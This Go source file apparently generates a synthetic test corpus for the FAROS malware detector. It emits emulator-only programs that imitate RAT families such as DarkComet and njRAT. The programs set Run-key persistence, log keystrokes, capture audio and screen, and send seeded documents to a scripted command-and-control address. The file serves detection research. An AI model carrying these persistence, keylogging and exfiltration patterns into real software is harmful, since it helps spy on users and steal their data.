package samples

import (
	"fmt"

	"faros/internal/guest/gnet"
	"faros/internal/isa"
	"faros/internal/peimg"
	"faros/internal/record"
)

// Behavior is one of the Table IV behaviour columns.
type Behavior uint8

// Behaviours (Table IV columns).
const (
	BIdle Behavior = iota + 1
	BRun
	BAudioRecord
	BFileTransfer
	BKeylogger
	BRemoteDesktop
	BUpload
	BDownload
	BRemoteShell
)

var behaviorNames = map[Behavior]string{
	BIdle: "Idle", BRun: "Run", BAudioRecord: "Audio Record",
	BFileTransfer: "File Transfer", BKeylogger: "Key logger",
	BRemoteDesktop: "Remote Desktop", BUpload: "Upload",
	BDownload: "Download", BRemoteShell: "Remote Shell",
}

// String returns the Table IV column label.
func (b Behavior) String() string { return behaviorNames[b] }

// Family is one malware family row of Table IV.
type Family struct {
	Name      string
	Behaviors []Behavior
}

// MalwareFamilies reproduces the real-world (non-in-memory-injecting)
// malware rows of Table IV with their behaviour checkmarks.
func MalwareFamilies() []Family {
	return []Family{
		{"Pandora v2.2", []Behavior{BIdle, BRun, BAudioRecord, BFileTransfer, BKeylogger, BUpload, BDownload}},
		{"Darkcomet v5.3", []Behavior{BIdle, BRun, BFileTransfer, BKeylogger, BUpload, BDownload}},
		{"Njrat v0.7", []Behavior{BIdle, BRun, BKeylogger, BRemoteDesktop, BUpload, BDownload}},
		{"Spygate v3.2", []Behavior{BIdle, BRun, BAudioRecord, BKeylogger, BRemoteDesktop, BUpload, BDownload}},
		{"Blue Banana", []Behavior{BIdle, BRun, BDownload, BRemoteShell}},
		{"Blue Banana v2.0", []Behavior{BIdle, BRun, BDownload, BRemoteShell}},
		{"Blue Banana v3.0", []Behavior{BIdle, BRun, BDownload, BRemoteShell}},
		{"Bozok", []Behavior{BIdle, BRun, BFileTransfer, BKeylogger, BUpload, BDownload}},
		{"Bozok v2.0", []Behavior{BIdle, BRun, BFileTransfer, BKeylogger, BUpload, BDownload}},
		{"Bozok v3.0", []Behavior{BIdle, BRun, BFileTransfer, BKeylogger, BUpload, BDownload}},
		{"DarkComet v5.1.2", []Behavior{BIdle, BRun, BFileTransfer, BKeylogger, BUpload, BDownload}},
		{"DarkComet legacy", []Behavior{BIdle, BRun, BFileTransfer, BKeylogger, BUpload, BDownload}},
		{"Extremerat v2.7.1", []Behavior{BIdle, BRun, BAudioRecord, BFileTransfer, BKeylogger, BUpload, BDownload}},
		{"Jspy", []Behavior{BIdle, BRun, BKeylogger, BRemoteShell}},
		{"Jspy v2.0", []Behavior{BIdle, BRun, BKeylogger, BRemoteShell}},
		{"Jspy v3.0", []Behavior{BIdle, BRun, BKeylogger, BRemoteShell}},
		{"Quasar v1.0", []Behavior{BIdle, BRun, BRemoteShell}},
	}
}

// corpusC2Addr derives a per-sample C2 address.
func corpusC2Addr(seed int) gnet.Addr {
	return gnet.Addr{IP: fmt.Sprintf("185.12.%d.%d", 1+seed/250, 1+seed%250), Port: 6666}
}

// needsNetwork reports whether any behaviour uses the C2 channel.
func needsNetwork(behaviors []Behavior) bool {
	for _, b := range behaviors {
		switch b {
		case BFileTransfer, BRemoteDesktop, BUpload, BDownload, BRemoteShell:
			return true
		}
	}
	return false
}

// corpusC2 scripts the C2 for the behaviour corpus: a banner carrying
// download data plus one command, and a reply per exfil message.
type corpusC2 struct{}

func (corpusC2) OnConnect(gnet.Flow) []gnet.Reply {
	// A banner (consumed by Download) and a later command (consumed by
	// RemoteShell), so samples with both behaviours never deadlock.
	return []gnet.Reply{
		{DelayInstr: 300, Data: []byte("update-blob-0001\x00")},
		{DelayInstr: 500_000, Data: []byte("run recon\x00")},
	}
}

func (corpusC2) OnData(gnet.Flow, []byte) []gnet.Reply {
	return []gnet.Reply{{DelayInstr: 300, Data: []byte("ack\x00")}}
}

// behaviorProgram builds a sample exercising the given behaviours. seed
// varies buffer sizes, intervals and file names so corpus variants are not
// byte-identical.
func behaviorProgram(exeName string, behaviors []Behavior, seed int) Program {
	b := peimg.NewBuilder(exeName)
	net := needsNetwork(behaviors)
	interval := uint32(200 + (seed%7)*100)
	chunk := uint32(24 + (seed%5)*8)

	// Data pool.
	b.DataBlk.Label("docname").DataString(fmt.Sprintf("document_%d.txt", seed%3))
	b.DataBlk.Label("logname").DataString(fmt.Sprintf("keys_%d.log", seed%4))
	b.DataBlk.Label("audname").DataString("audio.dat")
	b.DataBlk.Label("dlname").DataString("download.bin")
	b.DataBlk.Label("runmsg").DataString(exeName + ": task executed")
	b.DataBlk.Label("runkey").DataString(`HKCU\Software\WinMini\Run\` + exeName)
	b.DataBlk.Label("selfref").DataString(exeName)
	buf := b.BSS(4096)

	if net {
		emitConnect(b, corpusC2Addr(seed)) // defines c2ip; socket in EBP
	}

	for bi, beh := range behaviors {
		label := fmt.Sprintf("b%d", bi)
		switch beh {
		case BIdle:
			emitBoundedLoop(b, label, 2, func() { emitSleep(b, interval) })

		case BRun:
			// RATs install persistence before running tasks: a Run key
			// pointing at their own executable (visible to the Cuckoo
			// baseline as a registry-persistence verdict).
			b.Text.Movi(isa.EBX, b.MustDataVA("runkey"))
			b.Text.Movi(isa.ECX, b.MustDataVA("selfref"))
			b.CallImport("RegSetValueA")
			emitDebugPrint(b, "runmsg")

		case BAudioRecord:
			// Poll audio; write whatever arrived to audio.dat.
			b.Text.Movi(isa.EBX, b.MustDataVA("audname"))
			b.CallImport("CreateFileA")
			b.Text.Push(isa.EAX)
			emitBoundedLoop(b, label, 3, func() {
				b.Text.Movi(isa.EBX, buf)
				b.Text.Movi(isa.ECX, chunk)
				b.CallImport("ReadAudio")
				b.Text.Cmpi(isa.EAX, 0)
				b.Text.Jz(label + "_skip")
				b.Text.Mov(isa.EDX, isa.EAX)
				b.Text.Ld(isa.EBX, isa.ESP, 4) // file handle (under loop counter)
				b.Text.Movi(isa.ECX, buf)
				emitRetryImport(b, "WriteFile")
				b.Text.Label(label + "_skip")
				emitSleep(b, interval)
			})
			b.Text.Pop(isa.EAX)

		case BFileTransfer, BUpload:
			// Read a local document and send it to the C2.
			b.Text.Movi(isa.EBX, b.MustDataVA("docname"))
			b.CallImport("OpenFileA")
			b.Text.Cmpi(isa.EAX, 0xFFFFFFFF)
			b.Text.Jz(label + "_nofile")
			b.Text.Mov(isa.EBX, isa.EAX)
			b.Text.Movi(isa.ECX, buf)
			b.Text.Movi(isa.EDX, chunk)
			emitRetryImport(b, "ReadFile")
			emitSendBuf(b, buf, 0, true)
			b.Text.Label(label + "_nofile")

		case BKeylogger:
			b.Text.Movi(isa.EBX, b.MustDataVA("logname"))
			b.CallImport("CreateFileA")
			b.Text.Push(isa.EAX)
			emitBoundedLoop(b, label, 3, func() {
				b.Text.Movi(isa.EBX, buf)
				b.Text.Movi(isa.ECX, 64)
				b.CallImport("ReadKeyboard")
				b.Text.Cmpi(isa.EAX, 0)
				b.Text.Jz(label + "_skip")
				b.Text.Mov(isa.EDX, isa.EAX)
				b.Text.Ld(isa.EBX, isa.ESP, 4)
				b.Text.Movi(isa.ECX, buf)
				emitRetryImport(b, "WriteFile")
				b.Text.Label(label + "_skip")
				emitSleep(b, interval)
			})
			b.Text.Pop(isa.EAX)

		case BRemoteDesktop:
			emitBoundedLoop(b, label, 2, func() {
				b.Text.Movi(isa.EBX, buf)
				b.Text.Movi(isa.ECX, chunk)
				b.CallImport("ReadScreen")
				emitSendBuf(b, buf, 0, true)
				emitSleep(b, interval)
			})

		case BDownload:
			emitRecv(b, buf, chunk)
			b.Text.Push(isa.EAX) // n
			b.Text.Movi(isa.EBX, b.MustDataVA("dlname"))
			b.CallImport("CreateFileA")
			b.Text.Mov(isa.EBX, isa.EAX)
			b.Text.Pop(isa.EDX)
			b.Text.Movi(isa.ECX, buf)
			emitRetryImport(b, "WriteFile")

		case BRemoteShell:
			emitRecv(b, buf, 64)
			b.Text.Movi(isa.EBX, buf)
			b.CallImport("DebugPrint")
			emitSendBuf(b, buf, 8, false)
		}
	}

	emitExit(b, 0)
	return build(b, exeName)
}

// corpusDeviceScript supplies keyboard/audio input for samples that poll
// those devices.
func corpusDeviceScript() []record.Event {
	return []record.Event{
		{At: 20_000, Kind: record.EvKeyboard, Data: []byte("password123\x00")},
		{At: 30_000, Kind: record.EvAudio, Data: []byte{9, 8, 7, 6, 5, 4, 3, 2, 1, 0}},
		{At: 700_000, Kind: record.EvKeyboard, Data: []byte("more keys\x00")},
		{At: 800_000, Kind: record.EvAudio, Data: []byte{1, 2, 3, 4}},
	}
}

// CorpusSize is the number of non-injecting malware samples (Table IV
// evaluates 90 such samples).
const CorpusSize = 90

// MalwareCorpus generates the 90-sample non-injecting malware corpus:
// variants of the Table IV families, cycling through them with varying
// seeds. None of the samples injects memory or resolves APIs by walking
// the export table, so FAROS must flag none of them.
func MalwareCorpus() []Spec {
	families := MalwareFamilies()
	out := make([]Spec, 0, CorpusSize)
	for i := 0; i < CorpusSize; i++ {
		fam := families[i%len(families)]
		variant := i/len(families) + 1
		exe := fmt.Sprintf("%s_v%d.exe", sanitizeName(fam.Name), variant)
		spec := Spec{
			Name:       fmt.Sprintf("corpus_%02d_%s", i, sanitizeName(fam.Name)),
			Programs:   []Program{behaviorProgram(exe, fam.Behaviors, i)},
			AutoStart:  []string{exe},
			Events:     corpusDeviceScript(),
			MaxInstr:   3_000_000,
			ExpectFlag: false,
		}
		if needsNetwork(fam.Behaviors) {
			spec.Endpoints = []EndpointSpec{{Addr: corpusC2Addr(i), Endpoint: corpusC2{}}}
		}
		out = append(out, spec)
	}
	return out
}

// SeedFiles returns documents pre-installed in the guest FS that corpus
// samples read and exfiltrate.
func SeedFiles() map[string][]byte {
	return map[string][]byte{
		"document_0.txt": []byte("quarterly numbers: 17, 23, 31"),
		"document_1.txt": []byte("meeting notes, do not share"),
		"document_2.txt": []byte("vpn credentials: REDACTED"),
		"secrets.txt":    []byte("api-key-0xDEADBEEF"),
	}
}

func sanitizeName(s string) string {
	out := make([]byte, 0, len(s))
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case c >= 'a' && c <= 'z', c >= '0' && c <= '9':
			out = append(out, c)
		case c >= 'A' && c <= 'Z':
			out = append(out, c+('a'-'A'))
		case c == ' ' || c == '.':
			out = append(out, '_')
		}
	}
	return string(out)
}
